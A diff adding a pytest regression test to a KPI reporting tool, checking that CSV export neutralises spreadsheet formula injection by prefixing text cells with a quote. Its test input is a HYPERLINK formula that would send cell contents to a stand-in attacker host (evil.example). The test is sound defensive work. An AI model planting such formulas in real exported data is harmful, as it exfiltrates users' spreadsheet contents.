@@ -13,6 +13,7 @@ Each test failed before its fix:
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
 import json
 import re
@@ -198,3 +199,34 @@ def test_an_id_with_a_control_character_is_refused(tmp_path, table, body):
     done = kpitui("check", "--config", str(path))
     assert done.returncode == 2
     assert done.stderr.splitlines() == [f"kpitui: {path}: [{table}.a\\u001b[31m] the id holds a control character"]
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
+def test_csv_cells_of_config_text_are_never_spreadsheet_formulas(tmp_path, lead):
+    """A KPI named ``=HYPERLINK(...)`` (or starting ``+``, ``-``, ``@``) opened from ``report --format csv`` in a
+    spreadsheet would run as a formula: such a text cell starts with ``'`` (OWASP's advice); the numbers (a
+    negative value) stay numbers."""
+    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"x")'
+    path = tmp_path / "kpitui.toml"
+    path.write_text(
+        f"""
+[storage]
+path = "{(tmp_path / "h.sqlite3").as_posix()}"
+[metrics.a]
+name = "A"
+[kpis.k]
+name = {json.dumps(name)}
+formula = "sum"
+metrics = ["a"]
+[objectives.o]
+title = "O"
+kpis = ["k"]
+""",
+        encoding="utf-8",
+    )
+    assert kpitui("record", "a", "-5", "--allow-negative", "--config", str(path)).returncode == 0
+    done = kpitui("report", "--no-collect", "--format", "csv", "--config", str(path))
+    assert done.returncode == 0, done.stderr
+    (row,) = csv.DictReader(io.StringIO(done.stdout))
+    assert row["name"] == "'" + name
+    assert row["kpi"] == "k" and row["objective"] == "o" and row["value"] == "-5"
